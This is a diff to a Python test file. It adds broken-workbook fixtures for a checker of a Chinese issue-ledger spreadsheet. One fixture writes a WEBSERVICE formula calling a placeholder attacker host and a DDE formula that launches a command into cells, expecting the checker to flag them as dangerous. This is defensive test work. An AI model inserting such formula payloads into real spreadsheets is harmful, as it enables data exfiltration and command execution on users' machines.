@@ -215,6 +215,23 @@ def _small_ledger(path: Path) -> Path:
     return path
 
 
+def _other_sheet(path: Path) -> Path:
+    workbook = load_workbook(LEDGER)
+    summary = workbook.create_sheet("汇总")
+    for row in range(1, 5):
+        summary[f"A{row}"] = f"=SUM(问题台账!Q4)*{row}"
+    workbook.save(path)
+    return path
+
+
+def _reaching_out(path: Path) -> Path:
+    workbook = load_workbook(LEDGER)
+    workbook["问题台账"]["AZ1"] = '=WEBSERVICE("http://evil.invalid")'
+    workbook["书记专题会汇报表"]["AZ2"] = "=cmd|'/c calc'!A1"
+    workbook.save(path)
+    return path
+
+
 SICK = (
     Sick(
         "misspelled",
@@ -348,6 +365,21 @@ SICK = (
             Seed("model", cell="E4", part="问题台账", says="合并"),
             Seed("model", cell="Q4", part="问题台账", says="公式"),
             Seed("sheet", cell="", part="书记专题会汇报表", says="书记专题会汇报"),
+        ),
+    ),
+    Sick(
+        "other-sheet",
+        "ledger",
+        _other_sheet,
+        tuple(Seed("formula", cell=f"A{row}", part="汇总", says="引用了表“问题台账”") for row in range(1, 5)),
+    ),
+    Sick(
+        "reaching-out",
+        "ledger",
+        _reaching_out,
+        (
+            Seed("danger", cell="AZ1", part="问题台账", says="网络"),
+            Seed("danger", cell="AZ2", part="书记专题会汇报表", says="程序"),
         ),
     ),
     Sick(
